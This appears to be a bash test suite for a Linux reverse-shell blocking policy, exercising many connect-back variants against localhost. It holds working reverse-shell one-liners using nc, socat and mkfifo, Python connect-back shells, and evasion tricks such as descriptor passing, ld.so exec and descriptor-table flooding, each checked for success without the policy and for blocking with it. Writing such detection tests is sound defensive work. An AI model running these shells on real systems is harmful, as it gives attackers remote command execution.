# SPDX-License-Identifier: GPL-2.0-only
# A shell at the end of a connection that is not its own: through pipes, FIFOs,
# socket pairs and terminals, whatever came first.
# shellcheck shell=bash disable=SC2016,SC2034,SC2154

python=/usr/bin/python3
cg=$(cgroup free)

# The other end: answers a connection with a command, and says what came back.
cat >attacker.py <<'END'
import socket, sys, time
port, mode, patience = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
if mode == "listen":
    s.bind(("127.0.0.1", port)); s.listen(4)
    print("ready", flush=True)
    s.settimeout(patience)
    try:
        c = s.accept()[0]
    except OSError:
        print("nothing", flush=True)
        sys.exit()
else:
    for i in range(100):
        try:
            c = socket.create_connection(("127.0.0.1", port)); break
        except OSError:
            time.sleep(0.1)
    print("ready", flush=True)
c.settimeout(patience)
data = b""
try:
    c.sendall(sys.argv[4].encode() + b"\n")
    while b"GOT42" not in data:
        new = c.recv(4096)
        if not new:
            break
        data += new
except OSError:
    pass
print("owned" if b"GOT42" in data else "nothing", flush=True)
END

# attack COMMAND...: in the cgroup, against an attacker that listens
patience=40
sh_line='echo GOT$((40+2))' csh_line='@ x = (40 + 2); echo GOT$x'
line=$sh_line
attack() {
	local attacker pid
	: >attacker.out
	$python attacker.py 4320 listen $patience "$line" >attacker.out 2>&1 &
	attacker=$!
	poll grep -q ready attacker.out
	timeout 300 /opt/csec/bin/cgexec "$cg" "$@" </dev/null >attack.out 2>&1 &
	pid=$!
	wait $attacker
	kill $pid 2>/dev/null
	echo 1 >"$cg/cgroup.kill" 2>/dev/null
	wait $pid 2>/dev/null
	cat attacker.out
}
bash_c() { attack /bin/bash -c "$1"; }

nc_fifo='rm -f f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 127.0.0.1 4320 >f'
socat_fifo='rm -f f; mkfifo f; /bin/sh <f 2>&1 | socat - TCP:127.0.0.1:4320 >f'
socat_exec='socat TCP:127.0.0.1:4320 EXEC:/bin/sh'
socat_pty='socat TCP:127.0.0.1:4320 EXEC:"bash -li",pty,stderr,setsid,sigint,sane'
socat_script='socat TCP:127.0.0.1:4320 EXEC:"script -qc /bin/sh /dev/null"'
cat >shell_first.py <<'END'
import os, select, socket, subprocess, sys, time
a, b = socket.socketpair()
shell = (sys.argv[1:] or ["/bin/sh"])[0]
r, w = os.pipe() if sys.argv[2:] else (a, b)
p = subprocess.Popen([shell], stdin=b, stdout=w, stderr=w)
time.sleep(1)
s = socket.create_connection(("127.0.0.1", 4320))
while True:
    for f in select.select([s, r], [], [])[0]:
        d = s.recv(4096) if f is s else os.read(r if sys.argv[2:] else r.fileno(), 4096)
        if not d:
            sys.exit()
        (a if f is s else s).sendall(d)
END
cat >socket_later.py <<'END'
import os, socket, sys, time, array
a, b = socket.socketpair()
if not os.fork():
    m, anc, f, ad = b.recvmsg(1, 64)
    fd = array.array("i", anc[0][2])[0]
    for i in (0, 1, 2): os.dup2(fd, i)
    os.execv("/bin/sh", ["sh"])
s = socket.create_connection(("127.0.0.1", 4320))
a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
os.wait()
END
received='
import socket, subprocess
s = socket.create_connection(("127.0.0.1", 4320))
b = bytearray(4096)
while n := s.recv_into(b):
    s.sendall(subprocess.run(b[:n].decode(), shell=True, capture_output=True).stdout)'

# The one receives, the other executes.
handed_on="rm -f f; mkfifo f; nc 127.0.0.1 4320 <f | xargs -I@ sh -c @ >f 2>&1"
loader_first='rm -f f; mkfifo f; exec 8<>f; ./app /bin/sh <f 2>&1 | { sleep 1; nc 127.0.0.1 4320 >f; }'
long_chain='rm -f f; mkfifo f; cat f | cat | cat | cat | cat | cat | /bin/sh 2>&1 | cat | cat | nc 127.0.0.1 4320 >f'
# The terminal is on the side of the connection.
script_nc='rm -f f; mkfifo f; sh <f 2>&1 | script -qfc "nc 127.0.0.1 4320" /dev/null >f'
socat_nc='socat EXEC:/bin/sh EXEC:"nc 127.0.0.1 4320",pty,raw,echo=0'
# Two terminals: connected by one whom nobody can look at, or those of a multiplexer.
cat >two.py <<'END'
import os, pty, select, socket, sys, time
def pane(*words):
    pid, fd = pty.fork()
    if not pid:
        os.execvp(words[0], words)
    os.set_inheritable(fd, False)
    return fd
what = sys.argv[1]
if what == "panes":
    listener = socket.socket(socket.AF_UNIX)
    if os.path.exists("two"):
        os.unlink("two")
    listener.bind("two"); listener.listen(1)
first = pane("sh")
time.sleep(1)
second = pane("nc", "127.0.0.1", "4320")
time.sleep(1)
if what == "panes":
    third = pane("sh")
    for fd in (first, third):
        os.write(fd, b"echo own-$((40+2))\nexit\n")
        text = b""
        try:
            while new := os.read(fd, 4096):
                text += new
        except OSError:
            pass
        print("pane", b"own-42" in text, flush=True)
    sys.exit()
while True:
    for f in select.select([first, second], [], [])[0]:
        os.write(second if f is first else first, os.read(f, 4096))
END
# The shell is there first and keeps its descriptors elsewhere.
csh_fifo() {
	bash_c "rm -f f; mkfifo f; exec 8<>f; $1 <f 2>&1 | { sleep 1; nc 127.0.0.1 4320 >f; }"
}
csh_first() { attack $python $dir/shell_first.py "$@"; }
# A service with a connection whose csh answers nobody, or has a script.
cat >csh.py <<'END'
import os, socket, subprocess, sys, time
server = socket.create_server(("127.0.0.1", 4324))
shell, how = sys.argv[1:]
with open("x.csh", "w") as f:
    f.write("sleep 2; echo own-42\n")
a, b = socket.socketpair()
out = open("csh.out", "w") if how != "script" else subprocess.PIPE
p = subprocess.Popen([shell] + (["x.csh"] if how == "script" else []), stdout=out, stderr=out,
                     stdin=b if how == "pair" else subprocess.PIPE)
b.close()
time.sleep(1)
s = socket.create_connection(("127.0.0.1", 4324))
c = server.accept()[0]
c.sendall(b"row"); s.recv(10)
if how == "pair":
    a.sendall(b"echo own-42\n"); a.close()
elif how == "pipe":
    p.stdin.write(b"echo own-42\n"); p.stdin.close()
text = p.stdout.read().decode() if how == "script" else ""
p.wait()
print(text or open("csh.out").read())
END
# Input besides a command, options of bash with one dash, a FIFO as a script.
command_too='rm -f f; mkfifo f; sh -sc : <f 2>&1 | nc 127.0.0.1 4320 >f'
one_dash='rm -f f; mkfifo f; bash -norc -s x <f 2>&1 | nc 127.0.0.1 4320 >f'
fifo_script='rm -f i o; mkfifo i o; sh ./i >o 2>&1 & nc 127.0.0.1 4320 <o >i'
# A shell that reads it as a part of what it was told.
fifo_part="rm -f f; mkfifo f; sh -c '. ./f' 2>&1 | nc 127.0.0.1 4320 >f"
# A mapped shell, and many others after it.
many_starts='rm -f i o; mkfifo i o; exec 8<>i 9<>o; ./app /bin/sh <i >o 2>&1 & exec 8<>i 9<>o
	for n in {1..40}; do sh </dev/null | cat; done; nc 127.0.0.1 4320 >i <o'
# Between shell and connection a program that holds other pipes, and opened them first,
# as an event loop does to wake itself up.
cat >between.py <<'END'
import os, select, socket, subprocess, sys
spare = [(os.pipe, socket.socketpair)[i % 2]() for i in range(int(sys.argv[1]))]
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
a, b = socket.socketpair()
if not os.fork():
    s = socket.create_connection(("127.0.0.1", 4320))
    os.closerange(3, b.fileno()); a = None
    while True:
        for f in select.select([s, b], [], [])[0]:
            d = f.recv(4096)
            if not d:
                sys.exit()
            (b if f is s else s).sendall(d)
b.close()
while True:
    for f in select.select([a, p.stdout], [], [])[0]:
        d = os.read(f.fileno(), 4096)
        if not d:
            sys.exit()
        p.stdin.write(d) if f is a else a.sendall(d)
END
# ld.so runs the shell: exec sees another program.
cat >loader.py <<'END'
import os, socket, sys
s = socket.create_connection(("127.0.0.1", 4320))
for i in (0, 1, 2): os.dup2(s.fileno(), i)
os.execv(sys.argv[1], ["app", "/bin/sh"])
END
# No standard descriptor is the connection, but the shell reads it.
cat >read_u.py <<'END'
import os, socket
s = socket.create_connection(("127.0.0.1", 4320))
os.dup2(s.fileno(), 9)
os.execv("/bin/bash", ["bash", "-c", 'while read -r -u 9 l; do eval "$l" >&9; done'])
END
# A packet socket is a connection to everybody.
cat >packets.py <<'END'
import os, socket, subprocess, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x300)
s.bind(("lo", 0x300))
p = subprocess.run(["/bin/sh"], input=b"echo GOT$((40+2))", capture_output=True)
print("owned" if b"GOT42" in p.stdout else "nothing")
END
cp /lib64/ld-linux-x86-64.so.2 app
# So many descriptors that they are looked at in parts; what counts is on the last.
cat >many.py <<'END'
import os, resource, socket, subprocess, sys, time
nr = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_NOFILE, (nr + 100, nr + 100))
null = os.open("/dev/null", os.O_RDONLY)
while os.dup(null) < nr:
    pass
for i in range(int(sys.argv[2])):
    if not os.fork():
        time.sleep(600)
print("filled", flush=True)
if len(sys.argv) > 3:
    time.sleep(600)
s = socket.create_connection(("127.0.0.1", 4320))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)
while d := s.recv(4096):
    p.stdin.write(d)
    s.sendall(os.read(p.stdout.fileno(), 4096))
END

# Into a buffer whose second half was never touched.
half_touched='
import mmap, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4320))
b = memoryview(mmap.mmap(-1, 8192))[4096 - 64:]
while n := s.recv_into(b):
    s.sendall(subprocess.run(bytes(b[:n]).decode(), shell=True, capture_output=True).stdout)'

# Reads until there is nothing more, as event loops do.
drained='
import select, socket, subprocess
s = socket.create_connection(("127.0.0.1", 4320))
s.setblocking(False)
b = memoryview(bytearray(4096))
while select.select([s], [], []):
    n = 0
    try:
        while m := s.recv_into(b[n:]):
            n += m
        break
    except BlockingIOError:
        s.sendall(subprocess.run(bytes(b[:n]).decode(), shell=True, capture_output=True).stdout)'

names=(nc_fifo socat_fifo socat_exec socat_pty socat_script loader_first long_chain handed_on
	command_too one_dash fifo_script many_starts script_nc socat_nc
	fifo_part)
# It starts 80 programs before it connects.
with_patience() {
	local patience=$1
	[ "$name" != many_starts ] || patience=120
	"${@:2}"
}
for name in "${names[@]}"; do
	with_patience 40 contains "without a policy: $name" owned bash_c "${!name}"
done
for name in shell_first socket_later; do
	contains "without a policy: $name" owned attack $python $dir/$name.py
done
line=$csh_line
for shell in /bin/tcsh /bin/bsd-csh; do
	contains "without a policy: $shell, fifo" owned csh_fifo $shell
	contains "without a policy: $shell, first" owned csh_first $shell
	contains "without a policy: $shell, a pipe for output" owned csh_first $shell pipe
done
line=$sh_line
contains 'without a policy: two terminals' owned attack $python $dir/two.py connected
for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
	contains "without a policy: $loader" owned attack $python $dir/loader.py $loader
done
contains 'without a policy: between' owned attack $python $dir/between.py 4
contains 'without a policy: many' owned attack $python $dir/many.py 200000 1
contains 'without a policy: read_u' owned attack $python $dir/read_u.py
contains 'without a policy: packets' owned in_cgroup "$cg" $python packets.py
contains 'without a policy: received' owned attack $python -c "$received"
contains 'without a policy: half_touched' owned attack $python -c "$half_touched"
contains 'without a policy: drained' owned attack $python -c "$drained"

policy=relays
cg=$(cgroup deny)
govern relays "$cg" <<'END' || fail 'a policy is pushed'
shells: {reverse: deny, bind: deny, connect: deny}
memory: {jit: {default: deny}}
END
patience=15
before=$(counter relays reverse_shell)
is_stopped() {
	lacks "$1: is stopped" owned "${@:2}"
	at_least "$1: is counted" $((before + 1)) "$(counter relays reverse_shell)"
	before=$(counter relays reverse_shell)
}
for name in "${names[@]}"; do
	with_patience 15 is_stopped "$name" bash_c "${!name}"
done
is_stopped shell_first attack $python $dir/shell_first.py
equals 'the event has the peer' 4320 "$(field peer_port)"
equals 'the shell is its target' sh "$(field target_comm)"
equals 'and the link' unix "$(field link)"
line=$csh_line
for shell in /bin/tcsh /bin/bsd-csh; do
	is_stopped "$shell, fifo" csh_fifo $shell
	equals "$shell: it was there first" connect "$(field op)"
	is_stopped "$shell, first" csh_first $shell
	is_stopped "$shell, a pipe for output" csh_first $shell pipe
	for how in script pipe pair; do
		contains "$shell, $how: the service goes on" own-42 in_cgroup "$cg" $python $dir/csh.py $shell $how
	done
done
line=$sh_line
equals 'and nothing of that is refused' "$before" "$(counter relays reverse_shell)"
is_stopped 'two terminals' attack $python $dir/two.py connected
is_stopped socket_later attack $python $dir/socket_later.py
for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
	is_stopped "$loader" attack $python $dir/loader.py $loader
	equals 'when the shell is mapped' map "$(field op)"
done
contains 'the loader runs a shell that is at no connection' hello in_cgroup "$cg" \
	/lib64/ld-linux-x86-64.so.2 /bin/sh -c 'echo hello'
for spare in 0 2 4; do
	is_stopped "between, with $spare other pipes" attack $python $dir/between.py $spare
done
is_stopped 'many, beside as many' attack $python $dir/many.py 200000 1
is_stopped read_u attack $python $dir/read_u.py
lacks 'packets: is stopped' owned in_cgroup "$cg" $python packets.py
equals 'and counted' $((before + 1)) "$(counter relays reverse_shell)"
before=$(counter relays reverse_shell)
is_stopped half_touched attack $python -c "$half_touched"
is_stopped drained attack $python -c "$drained"
is_stopped received attack $python -c "$received"
equals 'the receiver is named' python3 "$(field target_comm)"

# A server that was asked for something, and then runs a command of its own.
cat >server.py <<'END'
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", 4321))
request = bytearray(4096)
n = s.recv_into(request)
own = "echo own-$((40+2))"
text = {
    # Its memory is used again, as that of a C program with one buffer.
    "reused": own.encode() + b"\0",
    "logged": b'{"run": "' + own.encode() + b'"}\0',
    "untouched": b"",
    # As if that had come: the control.
    "came": (own + "\n").encode().ljust(n, b" "),
}[sys.argv[1]]
request[:len(text)] = text
print(subprocess.run(own, shell=True, capture_output=True).stdout)
END
serve() {
	printf 'GET /status?of=everything HTTP/1.0\r\nHost: server.example\r\n\r\n' |
		nc -l 127.0.0.1 4321 >/dev/null 2>&1 &
	poll bash -c "ss -Hltn 'sport = :4321' | grep -q ."
	in_cgroup "$cg" $python $dir/server.py $1
	local status=$?
	wait $!
	return $status
}
for what in untouched reused logged; do
	contains "a request, then a command of its own: $what" own-42 serve $what
done
lacks 'what came is told apart by what it says only' own-42 serve came

# Two shells and a client in one multiplexer, a client in a terminal.
before=$(counter relays reverse_shell)
contains 'panes: nobody answers the client' nothing attack $python $dir/two.py panes
equals 'panes: both shells run' 2 "$(grep -c 'pane True' attack.out)"
contains 'a client in a terminal, what it says is kept' nothing bash_c \
	'script -qfc "nc 127.0.0.1 4320" /dev/null >x'
contains 'what it says is a script' nothing bash_c \
	'script -qfc "nc 127.0.0.1 4320" /dev/null </dev/null | sh | cat >x'
contains 'and runs' GOT42 cat x
equals 'and nothing of it is refused' "$before" "$(counter relays reverse_shell)"

# A script that reads what comes, below a service that hears it.
cat >reads.sh <<'END'
while read -r line; do
	while read -r x; do echo "own-$x"; sleep 1; done <list
	echo "$line" | wc -c
done
END
printf '42\n' >list
cat >hears.py <<'END'
import os, socket, subprocess
if os.path.exists("f"):
    os.unlink("f")
os.mkfifo("f")
s = socket.create_connection(("127.0.0.1", 4320))
p = subprocess.Popen("sh reads.sh <f", shell=True, stdout=subprocess.PIPE)
f = open("f", "wb", 0)
f.write(b"42\n")
s.settimeout(2)
try:
    while d := s.recv(4096):
        f.write(d)
except OSError:
    pass
f.close()
print(p.stdout.read().decode(), flush=True)
END
contains 'a script reads what comes' nothing attack $python $dir/hears.py
contains 'and a list' own-42 cat attack.out
contains 'a script that is read from a FIFO, for a file' nothing bash_c \
	'rm -f f; mkfifo f; sh -c ". ./f" 2>&1 | cat >x & { echo "echo own-\$((40+2))"; timeout 3 nc 127.0.0.1 4320 >/dev/null </dev/null; } >f'
contains 'and runs' own-42 cat x
equals 'and nothing of that is refused' "$before" "$(counter relays reverse_shell)"

# A FIFO that is open for nothing has no pipe that could be looked into.
cat >opath.py <<'EOF'
import os
os.mkfifo("opath")
r, w = os.pipe()
if os.fork() == 0:
    os.dup2(os.open("opath", os.O_PATH), 0)
    os.dup2(w, 1)
    os.dup2(w, 2)
    os.execv("/bin/bash", ["bash"])
os.close(w)
while os.read(r, 4096):
    pass
EOF
allowed 'a FIFO that is open for nothing, as input' in_cgroup "$cg" $python $dir/opath.py
accounts

# More descriptors than are looked at for one question, and not so many: minutes
# under emulation, so only in the long run.
policy=many
cg=$(cgroup many)
govern many "$cg" <<<'shells: {reverse: deny, bind: deny, connect: deny}'
piped() { in_cgroup "$cg" /bin/bash -c 'sleep 9 | /bin/sh | cat; exit ${PIPESTATUS[1]}'; }
beside() {
	: >many.out
	/opt/csec/bin/cgexec "$cg" $python many.py 1000000 "$1" wait >many.out 2>&1 &
	poll grep -q filled many.out
}
! grep -qw CSEC_LONG=1 /proc/cmdline || {
	beside 1
	allowed 'a shell between two pipes, beside two million descriptors' piped
	echo 1 >"$cg/cgroup.kill"
	beside 17
	denied 'beside eighteen million it is not decided' undecided 'Permission denied' piped
	echo 1 >"$cg/cgroup.kill"
}
ungovern many
